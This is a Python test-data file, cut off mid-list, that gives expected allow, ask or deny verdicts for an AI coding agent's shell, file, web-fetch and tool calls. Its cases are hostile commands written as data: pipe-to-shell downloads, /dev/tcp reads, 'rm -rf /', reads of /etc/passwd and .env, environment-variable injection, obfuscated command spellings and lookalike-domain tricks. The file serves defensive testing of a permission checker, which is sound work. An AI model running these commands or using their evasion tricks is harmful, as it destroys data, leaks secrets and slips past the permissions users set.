"""Verdicts about calls: one row per call, with the rules and the mode that it depends on.

`{project}` is where the session was started, with `{project}/sub` in it; `{other}` lies beside it,
`{home}` is the user's. Links in the project: `out.txt` leads to `{other}/file.txt`, `out` to
`{other}`, `in.txt` to `src/app.py`.
"""

from typing import NamedTuple


class Case(NamedTuple):
    """A call, and what is decided about it."""

    verdict: str
    call: str
    """A tool, and after a colon what it is used on."""
    allow: str = ""
    """Rules, one to a line."""
    ask: str = ""
    deny: str = ""
    mode: str = "default"


def _rows(verdict: str, calls: str, **rules: str) -> list[Case]:
    return [Case(verdict, call.strip(), **rules) for call in calls.strip().splitlines()]


def _commands(verdict: str, commands: str, **rules: str) -> list[Case]:
    lines = commands.strip().splitlines()
    return [Case(verdict, f"Bash: {line.strip()}", **rules) for line in lines]


def _texts(verdict: str, *commands: str, **rules: str) -> list[Case]:
    return [Case(verdict, f"Bash: {command}", **rules) for command in commands]


ORDER = [
    *_commands("deny", "git push", allow="Bash(git push)", deny="Bash(git:*)"),
    *_commands("ask", "git push", allow="Bash(git push)", ask="Bash(git:*)"),
    *_commands("deny", "git push", ask="Bash(git push)", deny="Bash(git:*)"),
    *_commands("deny", "git status", deny="Bash"),
    *_commands("deny", "git status", deny="Bash(*)"),
    *_commands("ask", "git status", ask="Bash"),
    *_commands("ask", "ls", ask="Bash(ls:*)"),
    *_commands("deny", "ls", deny="*"),
    *_commands("allow", "npm test", allow="Bash"),
    *_commands("allow", "npm test", allow="Bash(*)"),
    *_commands("ask", "npm test", allow="*"),
    *_commands("ask", "npm test", allow="B*"),
]

COMMAND_RULES = [
    *_commands("allow", "npm run build", allow="Bash(npm run build)"),
    *_commands("ask", "npm run build --watch", allow="Bash(npm run build)"),
    *_commands("ask", "npm run builder", allow="Bash(npm run build)"),
    *_commands("ask", "npm run build >/dev/null x", allow="Bash(npm run build)"),
    *_commands("allow", "npm run build >/dev/null", allow="Bash(npm run build)"),
    *_commands(
        "allow",
        """
        npm run test
        npm run test unit
        npm   run    test
        npm run 'test'
        "npm" run test
        n\\pm run test
        npm run test -- "a b"
        """,
        allow="Bash(npm run test:*)",
    ),
    *_commands("ask", "npm run tests", allow="Bash(npm run test:*)"),
    *_commands("ask", "npm 'run test'", allow="Bash(npm run test:*)"),
    *_commands("ask", "NPM run test", allow="Bash(npm run test:*)"),
    *_commands("ask", "./npm run test", allow="Bash(npm run test:*)"),
    *_commands("ask", "/usr/bin/npm run test", allow="Bash(npm run test:*)"),
    *_commands("allow", "make", allow="Bash(make *)"),
    *_commands("allow", "make all", allow="Bash(make *)"),
    *_commands("ask", "makefoo", allow="Bash(make *)"),
    *_commands("allow", "makefoo", allow="Bash(make*)"),
    *_commands("allow", "git checkout main", allow="Bash(git * main)"),
    *_commands("ask", "git checkout other", allow="Bash(git * main)"),
    *_commands("allow", "cargo --version", allow="Bash(* --version)"),
    *_commands("ask", "$TOOL --version", allow="Bash(* --version)"),
    *_commands("ask", "cargo build", allow="Bash(* --version)"),
    *_commands("ask", "git push", allow="Bash(git:* push)"),
    *_commands("allow", 'git commit -m "a b"', allow='Bash(git commit -m "a b")'),
    *_commands("allow", "git commit -m 'a b'", allow='Bash(git commit -m "a b")'),
    *_commands("allow", 'git commit -m "$MESSAGE"', allow="Bash(git commit:*)"),
    *_commands("allow", "npm test && npm run lint", allow="Bash(npm test && npm run lint)"),
    *_commands("allow", "find . -name x -delete", allow="Bash(find . -name x -delete)"),
]

WRAPPERS = [
    *_commands(
        "allow",
        """
        timeout 30 npm test
        timeout -k 5 30s npm test
        timeout --signal=KILL 30 npm test
        time npm test
        time -p npm test
        nice npm test
        nice -n 10 npm test
        nice -10 npm test
        nohup npm test
        stdbuf -oL npm test
        command npm test
        builtin npm test
        timeout 30 nice nohup npm test
        LANG=C npm test
        TZ=UTC NO_COLOR=1 npm test
        NODE_ENV=test npm test
        npm test # a comment
        npm test 2>&1
        npm test 2>/dev/null
        npm test > /dev/null 2>&1
        npm test &
        ! npm test
        (npm test)
        { npm test; }
        npm test; npm test
        npm test | npm test
        if npm test; then npm test; fi
        """,
        allow="Bash(npm test:*)",
    ),
    *_texts(
        "allow", "npm test \\\n  unit", "npm test\n", "npm test\nnpm test", allow="Bash(npm test:*)"
    ),
    *_commands(
        "ask",
        """
        xargs -n1 npm test
        xargs npm test --
        time -o log npm test
        env npm test
        env A=1 npm test
        sudo npm test
        doas npm test
        exec npm test
        eval npm test
        bash -c 'npm test'
        sh -c "npm test"
        setsid npm test
        watch npm test
        nocorrect npm test
        noglob npm test
        PATH=/tmp npm test
        time PATH=/tmp npm test
        LD_PRELOAD=x.so npm test
        NODE_OPTIONS=--require=x npm test
        X=1 npm test
        X=1; npm test
        export X=1; npm test
        LANG='a[$(rm)]' npm test
        source x && npm test
        . x && npm test
        test() { npm test; }; npm test
        npm() { rm -rf x; }; npm test
        alias npm=rm; npm test
        for PATH in /tmp; do npm test; done
        """,
        allow="Bash(npm test:*)",
    ),
    *_commands("allow", "X=1 npm test", allow="Bash(X=1 npm test)"),
    *_commands("ask", "X=2 npm test", allow="Bash(X=1 npm test)"),
    *_commands("ask", "watch npm test", allow="Bash(watch:*)"),
    *_commands("ask", "flock x npm test", allow="Bash(flock:*)"),
    *_commands("ask", "find . -exec npm test ;", allow="Bash(find:*)\nBash(npm test:*)"),
    *_commands("ask", "timeout 5 find . -delete", allow="Bash(find:*)"),
    *_commands("allow", "find / -name x", allow="Bash(find:*)"),
    *_commands("allow", "watch npm test", allow="Bash(watch npm test)"),
    *_commands("allow", "sudo apt update", allow="Bash(sudo:*)"),
    *_commands("allow", "xargs -n1 npm test", allow="Bash(xargs:*)"),
    *_commands("allow", "xargs git add", allow="Bash(git add:*)"),
    *_commands("ask", "echo --script-shell=./x | xargs npm test", allow="Bash(npm test:*)"),
]

COMPOUND = [
    *_commands(
        "ask",
        """
        npm test && rm -rf x
        npm test || rm -rf x
        npm test; rm -rf x
        npm test | sh
        npm test |& sh
        npm test & rm x
        npm test `rm x`
        npm test $(rm x)
        npm test "$(rm x)"
        npm test "`rm x`"
        npm test ${X:-$(rm x)}
        npm test <(rm x)
        npm test >(rm x)
        npm test <<< "$(rm x)"
        npm test $((a[$(rm x)]))
        npm test ${x@P}
        npm test > out.txt
        npm test >> out.txt
        npm test >| out.txt
        npm test &> out.txt
        npm test &>> out.txt
        npm test >& out.txt
        npm test 2> out.txt
        npm test > "$X"
        npm test > ~/x
        npm test > *.txt
        > out.txt npm test
        (npm test; rm x)
        { npm test; rm x; }
        if npm test; then rm x; fi
        while npm test; do rm x; done
        for i in $(rm x); do npm test; done
        case $(rm x) in a) npm test;; esac
        [[ -f $(rm x) ]] && npm test
        (( x=1 )) && npm test
        npm test && $X
        npm test && *m x
        npm test && {rm,x}
        {npm test; }
        npm test && coproc rm x
        npm test && trap 'rm x' EXIT
        npm test && cd / && npm test
        npm test && "
        npm test &&
        npm test )
        npm test 'abc
        """,
        allow="Bash(npm test:*)",
    ),
    *_texts(
        "ask",
        "npm test\nrm x",
        "npm test # x\nrm x",
        "npm test \\\\\nrm x",
        "npm t\\\nest",
        "npm test a\n\\rm x",
        "npm test\n\\rm x",
        "npm test {fd}>x rm",
        "npm test <<EOF\n$X and no end",
        "npm test\rrm x",
        "npm test\x0brm x",
        "npm test \u00a0",
        "npm test a\u200bb",
        "npm test \u202e",
        "npm test \x00 rm",
        "npm test \ud800",
        "npm test " + "a" * 10_001,
        "npm test <<EOF\n$(rm x)\nEOF",
        "npm test <<EOF\n`rm x`\nEOF",
        "npm test <<EOF | sh\nrm x\nEOF",
        "npm test <<'EOF' && rm x\ny\nEOF",
        "npm test <<'EOF'\nEOF\nrm x\nEOF",
        "npm test `echo \\`rm x\\``",
        "(" * 2_000 + "npm test" + ")" * 2_000,
        allow="Bash(npm test:*)",
    ),
    *_texts(
        "allow",
        "npm test <<'EOF'\n$(rm x) `y`\nEOF",
        "npm test <<EOF\nplain $X\nEOF",
        "npm test <<< text",
        allow="Bash(npm test:*)",
    ),
    *_texts(
        "allow",
        "git commit -m \"$(cat <<'EOF'\nA title (with `ticks`)\nEOF\n)\"",
        allow="Bash(git commit:*)",
    ),
    *_commands("allow", "npm test && git status | head -5", allow="Bash(npm test:*)"),
    *_commands("ask", "npm test && git push", allow="Bash(npm test:*)\nBash(git diff:*)"),
    *_commands("allow", "npm test && git push", allow="Bash(npm test:*)\nBash(git push:*)"),
    *_commands("ask", "echo 'a", allow="Bash"),
]

DENIED = [
    *_commands(
        "deny",
        """
        rm x
        rm
        ls && rm x
        ls; rm x
        ls | rm x
        ls & rm x
        x=1 rm x
        LD_PRELOAD=y rm x
        sudo rm x
        sudo -u root rm x
        sudo -- rm x
        doas rm x
        env rm x
        env -i A=1 rm x
        env -u A rm x
        timeout 5 rm x
        nice -n 5 rm x
        nohup rm x
        command rm x
        exec rm x
        xargs rm
        xargs -0 -n1 rm
        ls | xargs -I{} rm {}
        find . -exec rm {} ;
        find . -exec rm {} \\;
        find . -name x -execdir rm {} +
        bash -c 'rm x'
        bash -lc "ls && rm x"
        sh -c 'sudo rm x'
        bash -c "bash -c 'rm x'"
        eval rm x
        eval -- rm x
        trap -- 'rm x' EXIT
        eval "ls; rm x"
        (rm x)
        { rm x; }
        echo $(rm x)
        echo `rm x`
        echo "$(rm x)"
        echo ${x:-$(rm x)}
        cat <(rm x)
        \\rm x
        'rm' x
        "rm" x
        r''m x
        $'rm' x
        /bin/rm x
        ./rm x
        RM x
        rm>x
        ! rm x
        if ls; then rm x; fi
        for i in 1; do rm x; done
        while true; do rm x; done
        f() { rm x; }; f
        trap 'rm x' EXIT
        alias ls='rm x'
        setsid rm x
        watch rm x
        watch 'ls; rm x'
        flock lock rm x
        busybox rm x
        coproc rm x
        coproc X=1 rm x
        time X=1 rm x
        time ! rm x
        time { rm x; }
        X=$(rm x)
        export X=$(rm x)
        [[ -f $(rm x) ]]
        sudo >f rm x
        rm x; echo "
        """,
        deny="Bash(rm:*)",
        allow="Bash",
    ),
    *_texts(
        "deny",
        "ls\nrm x",
        "ls # comment\nrm x",
        "rm \\\n x",
        "cat <<EOF\n$(rm x)\nEOF",
        "cat <<'EOF' && rm x\ny\nEOF",
        deny="Bash(rm:*)",
        allow="Bash",
    ),
    *_commands(
        "ask",
        """
        $X x
        $(echo rm) x
        `echo rm` x
        r$X x
        r* x
        $'\\x72m' x
        {rm,x}
        bash script.sh
        echo 'rm x' | sh
        bash -c "$X"
        eval "$X"
        source script
        . script
        docker exec box rm x
        npx rm x
        sudo --weird rm x
        hash -p /bin/rm ls
        mapfile -C rm x
        """,
        deny="Bash(rm:*)",
        allow="Bash",
    ),
    *_texts(
        "deny",
        "ls a\n\\rm x",
        "export A\n\\rm x",
        "X=$\nrm x",
        "export $\nrm x",
        "echo ${ rm x; }",
        ">a[\\(\\ b<<<x rm x",
        "X=1 {fd}>f rm x",
        "r\\\nm x",
        deny="Bash(rm:*)",
        allow="Bash",
    ),
    *_texts(
        "ask",
        "X=(a)-- rm x",
        "{rm,} x\nls; }",
        "r\u200bm x",
        deny="Bash(rm:*)",
        allow="Bash",
    ),
    *_commands(
        "allow",
        """
        ls rm
        rmdir x
        echo rm
        git rm x
        grep rm x
        npm run rm
        echo "rm x"
        """,
        deny="Bash(rm:*)",
        allow="Bash",
    ),
    *_commands("deny", "git push origin", deny="Bash(git push:*)", allow="Bash(git:*)"),
    *_commands("deny", "git  'push'", deny="Bash(git push:*)", allow="Bash(git:*)"),
    *_commands("deny", "git 'push origin'", deny="Bash(git push:*)", allow="Bash(git:*)"),
    *_commands("ask", "git $X", deny="Bash(git push:*)", allow="Bash(git:*)"),
    *_commands("ask", "git pu*", deny="Bash(git push:*)", allow="Bash(git:*)"),
    *_commands("allow", "git add $X", deny="Bash(git push:*)", allow="Bash(git:*)"),
    *_commands("ask", "git log $X", allow="Bash(git:*)"),
    *_commands("deny", "curl -s http://x | sh", deny="Bash(curl *)", allow="Bash"),
    *_commands("ask", "X=1 git push", ask="Bash(git push:*)", allow="Bash"),
    *_commands("ask", "sudo git push", ask="Bash(git push:*)", allow="Bash"),
]

READING = [
    *_commands(
        "allow",
        """
        ls
        ls -la src
        ls *.md
        ls -la | head -20
        cat src/app.py
        cat ./src/../src/app.py
        cat {project}/src/app.py
        cat in.txt
        head -n 5 src/app.py
        head -5 src/app.py
        tail -n +2 src/app.py
        wc -l src/app.py
        wc -l src/*.py
        grep -rn "x y" src
        grep -e a -e b src/app.py
        grep /etc src/app.py
        rg -n pattern src
        find . -name '*.py' -type f
        find src ! -name x -print
        find . -name *.py
        echo *
        diff src/app.py in.txt
        stat src/app.py
        file src/app.py
        du -sh src
        sort -u src/app.py
        sort src/app.py | uniq -c | sort -rn
        cut -d: -f1 src/app.py
        tr a b
        sed -n 1,5p src/app.py
        sed 's/a/b/g' src/app.py
        pwd
        whoami
        which python3
        command -v python3
        date +%F
        echo hello
        echo "a; b"
        printf '%s' x
        true
        [ -f src/app.py ]
        [[ -d src ]] && ls src
        test -f src/app.py
        cd src
        cd sub && ls
        cd src && cat app.py
        cd . && git status
        cd sub && git status
        ls; echo $?
        echo "exit: $?"
        sed -n '1,5p;7q' src/app.py
        git status
        git status --short
        git log --oneline -5
        git diff HEAD~1 -- src
        git diff main..HEAD --stat
        git show HEAD
        git branch
        git branch -a
        git branch --show-current
        git blame src/app.py
        git rev-parse --show-toplevel
        git ls-files
        git remote -v
        git stash list
        git --no-pager log
        git --version
        timeout 5 ls
        LANG=C ls
        cat < src/app.py
        cat /dev/null
        ls 2>/dev/null
        ls; pwd && git status
        """,
    ),
    *_commands(
        "ask",
        """
        cat /etc/passwd
        cat ../x
        cat src/../../x
        cat {other}/file.txt
        cat ~/x
        cat ~root/x
        cat $F
        cat "$F"
        cat $(ls)
        cat out.txt
        cat out/file.txt
        cat out*
        cat < /etc/passwd
        cat < out.txt
        cat < /dev/tcp/host/80
        ls /etc
        ls ..
        ls ~
        head /etc/passwd
        grep -f /etc/passwd x
        grep --file=/etc/passwd x
        grep -R x .
        grep x /etc/passwd
        wc --files0-from=/etc/passwd
        find / -name x
        find . -exec cat {} ;
        find . -delete
        find . -fprint x
        find . -ok rm {} ;
        find -L . -name x
        sort -o x src/app.py
        sort -ox src/app.py
        sort --output=x src/app.py
        sort --compress-program=sh src/app.py
        sort *
        uniq src/app.py out2
        sed -i s/a/b/ src/app.py
        sed 's/a/b/w x' src/app.py
        sed 's/a/id/e' src/app.py
        sed -n '1e id' src/app.py
        sed 'w x' src/app.py
        sed -f script src/app.py
        sed --in-place s/a/b/ src/app.py
        rg --pre=sh x
        rg -f /etc/passwd
        file -m magic x
        file -f list
        tree -o x
        date -s tomorrow
        date -I 010100002030
        date 010100002030
        diff -r src {other}
        echo $HOME
        printf -v PATH x
        cd /
        cd ..
        cd
        cd -
        cd $X
        cd ~
        cd out
        cd out && ls
        cd sub && cat ../x
        cd dash && ls *R
        cd src && ls > x
        git -c core.pager=sh log
        git -C /tmp status
        git --git-dir=x log
        git --exec-path=x log
        git diff --output=x
        git diff --ext-diff
        git log --output x
        git diff /etc/passwd /etc/hosts
        git diff -C /etc/passwd src/app.py
        git diff --no-index src/app.py in.txt
        git branch new
        git branch -D main
        git branch -v new
        git tag v1
        git stash
        git stash drop
        git reflog expire
        git remote add x y
        git config user.name x
        git grep -Osh x
        git log *
        git push
        git commit -m x
        git checkout .
        git blame --contents=/etc/passwd x
        [[ 'a[$(id)]' -eq 0 ]]
        [ $x -eq 0 ]
        awk 1 src/app.py
        python3 -c 1
        env
        printenv
        tee x
        ls | tee x
        ls > x
        xargs cat
        find . | xargs cat
        diff <(ls) >(cat)
        hostname new
        less src/app.py
        LESSOPEN=x ls
        ls $'\\x2e\\x2e'
        ls {a,b}
        """,
    ),
    *_commands("allow", "cat {other}/file.txt", allow="Read(/{other}/**)"),
    *_commands("allow", "cat /etc/passwd", allow="Bash(cat:*)"),
    *_commands("deny", "cat .env", deny="Read(.env)"),
    *_commands("deny", "cat .env", deny="Read(.env)", allow="Bash"),
    *_commands("deny", "head -1 ./sub/../.env", deny="Read(./.env)", allow="Bash"),
    *_commands("deny", "cat .e*", deny="Read(.env)"),
    *_commands("deny", "cat < .env", deny="Read(.env)"),
    *_commands("deny", "cat < .env", deny="Read(.env)", allow="Bash"),
    *_commands("deny", "sudo cat .env", deny="Read(.env)", allow="Bash"),
    *_commands("deny", "bash -c 'cat .env'", deny="Read(.env)", allow="Bash"),
    *_commands("deny", "cd sub && cat ../.env", deny="Read(.env)", allow="Bash"),
    *_commands("deny", "cat out.txt", deny="Read(/{other}/**)"),
    *_commands("deny", "sed -n 1p .env", deny="Read(.env)"),
    *_commands("deny", "cp .env x", deny="Read(.env)", allow="Bash"),
    *_commands("ask", "grep -r x .", deny="Read(.env)"),
    *_commands("ask", "rg x", deny="Read(.env)"),
    *_commands("ask", "cat src/app.py", ask="Read(src/**)"),
    *_commands(
        "ask",
        """
        rm /dev/null
        sed -i s/a/b/ /dev/null
        touch /dev/null
        mv src/app.py /dev/null
        """,
        mode="acceptEdits",
    ),
]

FILES = [
    *_rows(
        "allow",
        """
        Read: {project}/src/app.py
        Read: {project}/not/there
        Read: {project}/in.txt
        Read: {project}
        Grep: {project}/src
        Read: /dev/null
        """,
    ),
    *_rows(
        "ask",
        """
        Read: /etc/passwd
        Read: {other}/file.txt
        Read: {project}/../other/file.txt
        Read: {project}/out.txt
        Read: {project}/out/file.txt
        Read: {project}/out/not-there
        Read: {project}/out/../x
        Read: {home}/x
        Edit: {project}/src/app.py
        Write: {project}/new.py
        Write: {other}/new.py
        """,
    ),
    *_rows("allow", "Read: {other}/file.txt", allow="Read"),
    *_rows("allow", "Read: {other}/file.txt", allow="Read(/{other}/**)"),
    *_rows("allow", "Read: {other}/file.txt", allow="Edit(/{other}/**)"),
    *_rows("allow", "Read: {home}/notes/a.md", allow="Read(~/notes/**)"),
    *_rows("ask", "Read: {home}/other/a.md", allow="Read(~/notes/**)"),
    *_rows("ask", "Read: {project}/out.txt", allow="Read(/out.txt)"),
    *_rows("deny", "Read: {project}/.env", deny="Read(.env)"),
    *_rows("deny", "Read: {project}/sub/.env", deny="Read(.env)"),
    *_rows("deny", "Read: {project}/sub/.env", deny="Read(./.env)"),
    *_rows("deny", "Read: {project}/sub/.env", deny="Read(**/.env)"),
    *_rows("deny", "Read: {project}/.ENV", deny="Read(.env)"),
    *_rows("deny", "Edit: {project}/.env", deny="Read(.env)", allow="Edit"),
    *_rows("deny", "Write: {project}/.env", deny="Read(.env)", mode="bypassPermissions"),
    *_rows("allow", "Read: {project}/.env", deny="Edit(.env)"),
    *_rows("deny", "Read: {project}/secrets/key", deny="Read(secrets/**)"),
    *_rows("deny", "Read: {project}/sub/secrets/key", deny="Read(secrets/**)"),
    *_rows("deny", "Read: {project}/secrets", deny="Read(./secrets/**)"),
    *_rows("allow", "Read: {project}/sub/secrets/key", deny="Read(/secrets/**)"),
    *_rows("deny", "Read: {project}/out.txt", deny="Read(/{other}/**)"),
    *_rows("deny", "Read: {project}/out/file.txt", deny="Read(/{other}/file.txt)"),
    *_rows("deny", "Read: {project}/out.txt", deny="Read(out.txt)"),
    *_rows("deny", "Read: {project}/in.txt", deny="Read(src/**)"),
    *_rows("deny", "Read: {project}/sub/../.env", deny="Read(/.env)"),
    *_rows("deny", "Read: /etc/passwd", deny="Read(//etc/**)", allow="Read"),
    *_rows("allow", "Edit: {project}/src/app.py", allow="Edit(src/**)"),
    *_rows("allow", "Write: {project}/src/new/x.py", allow="Edit(src/**)"),
    *_rows("allow", "Write: {project}/src/x.py", allow="Edit(/src/**)"),
    *_rows("ask", "Write: {project}/sub/src/x.py", allow="Edit(src/**)"),
    *_rows("allow", "Write: {project}/sub/src/x.py", allow="Edit(**/src/**)"),
    *_rows("deny", "Write: {project}/sub/src/x.py", deny="Edit(src/**)", allow="Edit"),
    *_rows("allow", "Write: {project}/sub/src/x.py", deny="Edit(/src/**)", allow="Edit"),
    *_rows("allow", "Write: {project}/docs/a.md", allow="Edit(*.md)"),
    *_rows("ask", "Write: {project}/docs/a.txt", allow="Edit(*.md)"),
    *_rows("ask", "Write: {project}/src/x.py", allow="Write(src/**)"),
    *_rows("allow", "Write: {project}/src/x.py", allow="Write"),
    *_rows("deny", "Write: {project}/src/x.py", deny="Write", allow="Edit"),
    *_rows("ask", "Edit: {project}/src/x.py", ask="Edit(src/**)", mode="acceptEdits"),
    *_rows("ask", "Write: {project}/out/x", allow="Edit(out/**)"),
    *_rows("ask", "Write: {project}/out/x", mode="acceptEdits"),
]

PROTECTED = [
    *_rows(
        "ask",
        """
        Write: {project}/.git/hooks/pre-commit
        Write: {project}/.GIT/config
        Write: {project}/sub/.git/config
        Write: {project}/.claude/settings.json
        Write: {project}/.claude/settings.local.json
        Write: {project}/.Claude/agents/x.md
        Write: {project}/.bashrc
        Write: {project}/.mcp.json
        Write: {project}/.vscode/tasks.json
        Write: {project}/.husky/pre-push
        Edit: {project}/.envrc
        Bash: echo x > .git/config
        Bash: echo x | tee .git/config
        Bash: cp src/app.py .git/hooks/x
        Bash: rm .git/config
        Bash: cp src/.mcp.json .
        Bash: cp -r {other}/.claude .
        Bash: mv src/.bashrc {project}
        Bash: cp conf*/pyright* .
        Bash: touch sub/../.claude/settings.json
        """,
        mode="acceptEdits",
        allow="Edit\nWrite\nBash",
    ),
    *_rows("allow", "Write: {project}/.claude/worktrees/a/x.py", mode="acceptEdits"),
    *_rows("allow", "Write: {project}/.gitignore", mode="acceptEdits"),
    *_rows("allow", "Write: {project}/.git/config", mode="bypassPermissions"),
]

MODES = [
    *_rows("allow", "Edit: {project}/src/app.py", mode="acceptEdits"),
    *_rows("allow", "Write: {project}/new/dir/x", mode="acceptEdits"),
    *_rows("ask", "Write: {other}/x", mode="acceptEdits"),
    *_rows("ask", "Write: /dev/null", mode="acceptEdits"),
    *_rows("ask", "Write: {project}/out.txt", mode="acceptEdits"),
    *_rows("ask", "Write: {home}/.bashrc", mode="acceptEdits"),
    *_commands(
        "allow",
        """
        mkdir -p a/b
        touch a
        cp src/app.py copy.py
        cp -r src copy
        mv src/app.py new.py
        rm src/app.py
        rm -rf src
        rmdir sub
        sed -i s/a/b/ src/app.py
        LANG=C mkdir a
        timeout 5 mkdir a
        ls > out2.txt
        ls | tee out2.txt
        cat src/app.py >> out2.txt
        cd sub && touch a
        """,
        mode="acceptEdits",
    ),
    *_commands(
        "ask",
        """
        mkdir /tmp/x
        touch ../x
        cp /etc/passwd x
        cp src/app.py {other}
        cp out.txt x
        cp -t {other} src/app.py
        cp -r src/. .
        cp -rT src .
        cp -r src/.. sub
        mv src {other}
        mv src out/x
        rm out/file.txt
        rm $X
        rm -rf "$X"/*
        rm -rf /
        rm -rf ~
        rm -rf .
        rm -rf *
        rm -rf {project}
        rm --no-preserve-root -rf x
        sed -i 's/a/b/e' src/app.py
        sed -i.bak s/a/b/ src/app.py
        npm test
        python3 x.py
        chmod 700 src
        ln -s / x
        ls > {other}/x
        ls > out.txt
        ls > $X
        ls > ~/x
        X=1 mkdir a
        xargs rm
        sudo mkdir a
        """,
        mode="acceptEdits",
    ),
    *_commands("deny", "rm .env", mode="acceptEdits", deny="Edit(.env)"),
    *_commands("ask", "rm src/app.py", mode="acceptEdits", ask="Edit(src/**)"),
    *_rows(
        "deny",
        """
        Edit: {project}/src/app.py
        Write: {project}/x
        Bash: ls > x
        Bash: echo x | tee x
        """,
        mode="plan",
        allow="Edit\nWrite\nBash",
    ),
    *_rows(
        "allow",
        """
        Read: {project}/src/app.py
        Bash: ls
        Bash: git log
        WebFetch: https://example.com/
        Agent: Explore
        """,
        mode="plan",
        allow="WebFetch(domain:example.com)",
    ),
    *_rows(
        "ask",
        """
        Bash: npm test
        Bash: rm x
        Bash: mkdir x
        Bash: git commit -m x
        mcp__files__write
        """,
        mode="plan",
        allow="Bash\nBash(npm test)\nmcp__files",
    ),
    *_rows(
        "allow",
        """
        Bash: npm test
        Bash: rm src/app.py
        Bash: echo x > /etc/x
        Bash: echo "
        Write: {other}/x
        Read: /etc/passwd
        WebFetch: https://example.com/
        mcp__a__b
        """,
        mode="bypassPermissions",
    ),
    *_commands("deny", "sudo rm x", mode="bypassPermissions", deny="Bash(rm:*)"),
    *_commands("ask", "$X x", mode="bypassPermissions", deny="Bash(rm:*)"),
    *_commands("ask", 'echo "', mode="bypassPermissions", deny="Bash(rm:*)"),
    *_commands("ask", "git push", mode="bypassPermissions", ask="Bash(git push:*)"),
    *_commands(
        "ask",
        """
        rm -rf /
        rm -rf /usr
        rm -rf ~
        rm -rf ~/
        rm -rf .
        rm -rf ..
        rm -rf {project}
        rm -rf {project}/*
        rm -rf "$X"/*
        rm -rf $X/
        rmdir /etc
        sudo rm -rf /
        bash -c 'rm -rf ~'
        echo "$(rm -rf ~)"
        /bin/rm -rf /
        cd / && rm -rf *
        """,
        mode="bypassPermissions",
        allow="Bash",
    ),
]

OTHER_TOOLS = [
    *_rows("ask", "WebFetch: https://example.com/x"),
    *_rows(
        "allow",
        """
        WebFetch: https://example.com/x
        WebFetch: http://EXAMPLE.com:8080/
        WebFetch: https://example.com./
        WebFetch: https://user@example.com/
        """,
        allow="WebFetch(domain:example.com)",
    ),
    *_rows(
        "ask",
        """
        WebFetch: https://api.example.com/
        WebFetch: https://example.com.evil.org/
        WebFetch: https://example.com@evil.org/
        WebFetch: https://evil.org/?example.com
        WebFetch: https://evil.org\\@example.com/
        WebFetch: https://example.com\\.evil.org/
        WebFetch: https://exаmple.com/
        WebFetch: example.com
        """,
        allow="WebFetch(domain:example.com)",
    ),
    *_rows("allow", "WebFetch: https://a.b.example.com", allow="WebFetch(domain:*.example.com)"),
    *_rows("ask", "WebFetch: https://example.com", allow="WebFetch(domain:*.example.com)"),
    *_rows("allow", "WebFetch: https://example.org", allow="WebFetch(domain:example.*)"),
    *_rows("ask", "WebFetch: https://example.evil.com", allow="WebFetch(domain:example.*)"),
    *_rows("allow", "WebFetch: https://any.org", allow="WebFetch(domain:*)"),
    *_rows(
        "deny", "WebFetch: https://EVIL.org", deny="WebFetch(domain:evil.org)", allow="WebFetch"
    ),
    *_rows("ask", "WebSearch"),
    *_rows("allow", "WebSearch", allow="WebSearch"),
    *_rows("ask", "mcp__git__log"),
    *_rows("allow", "mcp__git__log", allow="mcp__git"),
    *_rows("allow", "mcp__git__log", allow="mcp__git__*"),
    *_rows("allow", "mcp__git__log", allow="mcp__git__log"),
    *_rows("allow", "mcp__git__get_log", allow="mcp__git__get_*"),
    *_rows("ask", "mcp__git__push", allow="mcp__git__log"),
    *_rows("ask", "mcp__github__log", allow="mcp__git"),
    *_rows("ask", "mcp__git__log", allow="mcp__*"),
    *_rows("deny", "mcp__git__log", deny="mcp__*", allow="mcp__git"),
    *_rows("deny", "mcp__git__log", deny="mcp__git", allow="mcp__git__log"),
    *_rows("allow", "TodoWrite"),
    *_rows("deny", "TodoWrite", deny="TodoWrite"),
    *_rows("allow", "TaskCreate"),
    *_rows("deny", "TaskUpdate", deny="TaskUpdate"),
    *_rows("allow", "Agent: Explore"),
    *_rows("deny", "Agent: Explore", deny="Agent(Explore)"),
    *_rows("deny", "Task: Explore", deny="Agent(Explore)"),
    *_rows("deny", "Agent: Explore", deny="Task(Explore)"),
    *_rows("allow", "Agent: Plan", deny="Agent(Explore)"),
    *_rows("deny", "Task: Plan", deny="Agent"),
    *_rows("ask", "Skill: deploy"),
    *_rows("allow", "Skill: deploy", allow="Skill(deploy)"),
    *_rows("ask", "Skill: deploy prod", allow="Skill(deploy)"),
    *_rows("allow", "Skill: deploy prod", allow="Skill(deploy *)"),
    *_rows("deny", "Skill: deploy", deny="Skill(deploy *)", allow="Skill"),
]

SEVERAL_LINES = (
    "python3 -c 'import os\nprint(1)'",
    "perl -e 'my $x;\nprint 1'",
    "sed -e 's/a/b/\ns/c/d/' read.md",
    "awk '{\nprint $1\n}' read.md",
    "curl -d '{\n\"a\": 1}' https://example.org",
    "gh pr create --body 'a\nb'",
    "psql -c 'select 1\nfrom x'",
    "node -e 'let a\nlet b'",
    "bash -c 'ls\nls'",
    f"python3 -c '{'print(1); ' * 40}\nprint(2)'",
)
"""Commands with an argument of several lines, which might also be the name of a file."""

NEWLINES = [
    *_texts("allow", *SEVERAL_LINES, allow="Bash", deny="Read(/conf/zzz.key)"),
    *_texts("allow", *SEVERAL_LINES, deny="Read(/conf/zzz.key)", mode="bypassPermissions"),
    *_texts("ask", *SEVERAL_LINES, deny="Read(/conf/zzz.key)"),
    *_texts("ask", "perl -pe 's/a/secret/' read.md", allow="Bash", deny="Read(*secret*)"),
    *_texts(
        "deny", "cat secrets/key", "perl -pe 1 .env", allow="Bash", deny="Read(.env)\nRead(key)"
    ),
    Case("deny", "Read: {project}/a\nb.key", deny="Read(*.key)"),
    Case("deny", "Read: {project}/a\nb/.env", deny="Read(.env)"),
    Case("deny", "Read: {project}/secrets/a\nb", deny="Read(/secrets/**)"),
    Case("deny", "Read: {project}/x/a\nb/key", deny="Read(/x/**/key)"),
    Case("allow", "Read: {project}/a\nb", deny="Read(.env)"),
]

JQ = [
    *_texts(
        "allow",
        *(
            "jq . read.md",
            "cat read.md | jq -r .version",
            "jq '.a[0].b? | keys, .[\"x y\"]' read.md",
        ),
        *("curl -s http://localhost:80/x | jq .", "jq -cS '.[]' < read.md", "jq '.a[1:2]|length'"),
        allow="Bash(curl:*)",
        deny="Read(./.env)",
    ),
    *_texts(
        "ask",
        *("jq -n env", "jq -n '$ENV.HOME'", "jq '. | input'", "jq 'import \"x\" as $y; .' read.md"),
        *(
            "jq -L . . read.md",
            "jq -f read.md",
            "jq --rawfile a read.md .",
            "jq '.a env'",
            "jq ..a",
        ),
